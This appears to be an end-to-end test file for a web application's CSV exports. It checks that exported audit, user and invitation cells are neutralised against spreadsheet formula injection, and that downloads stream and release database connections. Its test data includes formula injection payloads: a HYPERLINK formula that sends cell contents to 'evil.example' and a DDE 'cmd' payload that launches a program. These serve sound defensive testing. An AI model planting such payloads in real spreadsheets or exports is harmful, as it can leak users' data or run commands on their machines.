import { Agent, type IncomingMessage, request } from "node:http";
import { sql } from "drizzle-orm";
import { causeOf, record } from "@/db/audit/record";
import { createGroup } from "@/db/groups/create";
import { baseUrl, send } from "@/e2e/fixtures/http";
import { expect, type Scenario, test } from "@/e2e/fixtures/http-test";

const HOSTILE = [
  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "＝1+1",
  "\u200b=1+1",
  `x";=1+1;"`,
];
const UNSEEN = ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", `x\n=1+1,"`];

test("no cell of an export begins with a formula", async ({ scenario }) => {
  const ctx = await scenario.contextOf("alex", "acme");
  for (const name of HOSTILE) {
    await createGroup({ ctx, input: { name, description: name, roleIds: [] } });
  }
  for (const name of UNSEEN) {
    const details = { changes: { [name]: [name, name] as const }, groups: [name, name], [name]: name };
    await record(scenario.db, causeOf(ctx), { action: "groups.edit", subject: { name }, details });
  }
  await scenario.db.execute(
    sql`update organizations set name = ${"=1+1"} where root_id = ${scenario.organizations.meridian.id}`,
  );

  const { status, headers, body } = await send(scenario.path("acme", "/audit/export"), {
    cookie: await scenario.cookie("alex", "acme"),
  });
  expect(status).toBe(200);
  expect(headers).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
  });
  expect(headers["content-disposition"]).toMatch(/^attachment; filename="audit-1-1-[\d-]+\.csv"$/);
  expect(cellsOf(body).length).toBeGreaterThan(HOSTILE.length + UNSEEN.length);
  expectNoFormula(body, 14);
});

test("no cell of an export of users or invitations begins with a formula", async ({ scenario }) => {
  const ctx = await scenario.contextOf("alex", "acme");
  for (const name of HOSTILE) await createGroup({ ctx, input: { name, description: "", roleIds: [] } });
  const { acme, meridian } = scenario.organizations;
  await scenario.invite("alex", "acme", ["grace", "linus"]);
  await scenario.db.execute(sql`
    insert into membership_groups (organization_id, user_id, group_id)
    select ${acme.id}, ${scenario.userId("sam")}, id from groups where organization_id = ${acme.id}
    on conflict do nothing`);
  await scenario.db.execute(sql`
    insert into invitation_groups (organization_id, invitation_id, group_id, group_name)
    select ${acme.id}, i.id, g.id, g.name
    from invitations i join groups g on g.organization_id = i.organization_id
    where i.organization_id = ${acme.id}`);
  await scenario.db.execute(sql`
    update invitations set status = 'declined', ended_at = now(), end_reason = 'declined', decline_reason = ${HOSTILE[0]}
    where organization_id = ${acme.id} and username = 'linus'`);
  await scenario.db.execute(sql`
    update users set name = ${"=1+1"}, email = ${"+1@x.example"} where managing_organization_id in (${acme.id}, ${meridian.id})`);
  const cookie = await scenario.cookie("alex", "acme");
  for (const [list, columns] of [
    ["/users", 9],
    ["/users/invitations", 13],
  ] as const) {
    const { status, headers, body } = await send(scenario.path("acme", `${list}/export`), { cookie });
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      "content-type": "text/csv; charset=utf-8",
      "cache-control": "no-store",
      "x-content-type-options": "nosniff",
    });
    expect(cellsOf(body)).toHaveLength(3);
    expect(body).toContain("1+1");
    expectNoFormula(body, columns);
  }
});

function expectNoFormula(body: string, columns: number): void {
  const rows = cellsOf(body);
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([columns]));
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\p{Cc}\p{Z}\p{Cf}]*[=+\-@＝＋－＠\t\r\0]/u);
  const semicolons = body.split(/[;\r\n]+/).slice(1);
  for (const cell of semicolons) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
}

test("an export is streamed while it is read, and is complete", async ({ scenario }) => {
  await fill(scenario, 8000);
  const response = await download(scenario);
  await firstBytes(response);
  // The client isn't reading now. If everything had been read at once, this row would be missing.
  await scenario.db.execute(sql`
    insert into audit_events (organization_id, at, actor_name, action, subject_name)
    values (${scenario.organizations.acme.id}, timestamptz '2001-01-01', 'alex', 'groups.create', 'Added at the far end')`);
  const rows = cellsOf(await rest(response));
  expect(rows.at(-1)).toContain("Added at the far end");
  expect(rows.length).toBeGreaterThan(8000);
});

test("aborted downloads release their connections", async ({ scenario }) => {
  await fill(scenario, 2000);
  const cookie = await scenario.cookie("alex", "acme");
  // The app has only ten connections to the database.
  const responses = await Promise.all(Array.from({ length: 15 }, () => download(scenario)));
  await Promise.all(responses.map(firstBytes));
  expect((await send(scenario.path("acme", "/users"), { cookie })).status).toBe(200);
  for (const response of responses) response.destroy();
  const { body } = await send(scenario.path("acme", "/audit/export"), { cookie });
  expect(cellsOf(body).length).toBeGreaterThan(2000);
});

/** Rows of a few kilobytes, more than the connection buffers. */
async function fill({ db, organizations }: Scenario, count: number): Promise<void> {
  await db.execute(sql`
    insert into audit_events (organization_id, at, actor_name, action, subject_name, details)
    select ${organizations.acme.id}, now() - n * interval '1 minute', 'alex', 'groups.edit', 'Drivers',
      jsonb_build_object('reason', repeat('why ', 1000))
    from generate_series(1, ${count}) n`);
}

async function download(scenario: Scenario): Promise<IncomingMessage> {
  const { host, port } = new URL(baseUrl());
  const headers = { host, cookie: await scenario.cookie("alex", "acme") };
  const path = scenario.path("acme", "/audit/export");
  return new Promise((resolve, reject) => {
    const sent = request({ agent: new Agent(), host: "127.0.0.1", port, path, headers }, resolve);
    sent.on("error", reject);
    sent.end();
  });
}

/** Reads the first byte, so that the response stays paused. */
async function firstBytes(response: IncomingMessage): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    response.on("error", reject);
    response.once("readable", resolve);
  });
  expect(response.read(1)).not.toBeNull();
}

async function rest(response: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of response) parts.push(part);
  return Buffer.concat(parts).toString();
}

/** The cells of each row, by RFC 4180. */
function cellsOf(csv: string): string[][] {
  return csv
    .split("\r\n")
    .slice(0, -1)
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))(?=,|$)/g)].map(
        ([, quoted, bare = ""]) => quoted?.replaceAll('""', '"') ?? bare,
      ),
    );
}
